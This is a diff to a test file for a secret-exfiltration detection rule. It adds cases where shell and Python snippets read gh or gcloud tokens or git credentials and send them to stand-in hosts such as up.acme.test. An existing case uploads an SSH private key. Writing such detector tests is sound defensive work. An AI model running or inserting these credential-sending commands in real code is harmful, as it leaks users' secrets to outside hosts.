@@ -4,6 +4,21 @@ import { secretSent } from './secret-sent.ts';
 ruleCases(secretSent, {
   hits: [
     {
+      name: 'a token of a signed-in program in an address',
+      path: 'a.sh',
+      text: 'T=$(gh auth token)\ncurl -s "https://up.acme.test/x?t=$T"\n',
+    },
+    {
+      name: 'a token of a signed-in program in a header for another service',
+      path: 'a.sh',
+      text: 'T=$(gcloud auth print-access-token)\ncurl -H "x: $T" https://up.acme.test/x\n',
+    },
+    {
+      name: 'a password that goes through functions',
+      path: 'a.py',
+      text: 'import subprocess, requests\ndef ask():\n    return subprocess.run(["git", "credential", "fill"]).stdout\nx = ask()\nrequests.post("https://up.acme.test", data=x)\n',
+    },
+    {
       name: 'a key file',
       path: 'a.sh',
       text: 'curl -F "f=@$HOME/.ssh/id_rsa" https://x.example\n',
@@ -42,6 +57,11 @@ ruleCases(secretSent, {
     },
   ],
   misses: [
+    {
+      name: 'a token that goes to its own service',
+      path: 'a.sh',
+      text: 'T=$(gcloud auth print-access-token)\ncurl -H "Authorization: Bearer $T" https://run.googleapis.com/v1\n',
+    },
     {
       name: 'a token for its own service',
       path: 'a.sh',
